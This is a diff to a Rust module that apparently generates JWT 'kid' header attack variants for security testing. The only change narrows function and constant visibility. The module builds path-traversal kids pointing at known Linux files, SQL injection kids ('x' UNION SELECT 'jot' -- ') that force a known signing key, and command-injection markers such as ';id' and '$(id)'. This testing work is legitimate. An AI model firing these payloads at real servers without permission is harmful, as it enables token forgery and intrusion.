@@ -8,14 +8,14 @@ use super::{hmac_token, Base};
 /// Files every Linux machine has, whose content is known: the path from the root, and
 /// the bytes. A server that strips what it reads keys with the content minus its
 /// newline, so both are signed.
-pub const KNOWN_FILES: &[(&str, &[u8])] = &[
+pub(super) const KNOWN_FILES: &[(&str, &[u8])] = &[
     ("dev/null", b""),
     ("proc/sys/kernel/ostype", b"Linux\n"),
     ("proc/sys/kernel/domainname", b"(none)\n"),
 ];
 
 /// The literal the SQL injections select as the key.
-pub const SQLI_KEY: &[u8] = b"jot";
+pub(super) const SQLI_KEY: &[u8] = b"jot";
 
 /// How deep the relative spellings climb: past the root of any likely key directory
 /// (extra `../` at the root stay at the root, so one deep path serves every depth).
@@ -45,7 +45,7 @@ fn contents(content: &'static [u8]) -> Vec<(&'static [u8], &'static str)> {
 
 /// `kid` naming a file of known content, absolutely and by each spelling of climbing
 /// [`DEPTH`] levels; signed with the content as read and as stripped.
-pub fn traversal(b: &Base, push: &mut impl FnMut(String, String)) {
+pub(super) fn traversal(b: &Base, push: &mut impl FnMut(String, String)) {
     for (path, content) in KNOWN_FILES {
         for (key, how) in contents(content) {
             let shown = String::from_utf8_lossy(key).escape_debug().to_string();
@@ -64,7 +64,7 @@ pub fn traversal(b: &Base, push: &mut impl FnMut(String, String)) {
 }
 
 /// `kid` whose UNION makes the key lookup return the literal `jot`.
-pub fn sqli(b: &Base, push: &mut impl FnMut(String, String)) {
+pub(super) fn sqli(b: &Base, push: &mut impl FnMut(String, String)) {
     for kid in [
         "x' UNION SELECT 'jot' -- ",
         "x\" UNION SELECT \"jot\" -- ",
@@ -75,7 +75,7 @@ pub fn sqli(b: &Base, push: &mut impl FnMut(String, String)) {
 }
 
 /// `kid` with shell metacharacters; harmless markers, judged blind.
-pub fn cmdi(b: &Base, push: &mut impl FnMut(String, String)) {
+pub(super) fn cmdi(b: &Base, push: &mut impl FnMut(String, String)) {
     let orig = b.header.get("kid").and_then(Value::as_str).unwrap_or("key");
     for marker in ["|id", ";id", "$(id)", "`id`"] {
         let kid = format!("{orig}{marker}");
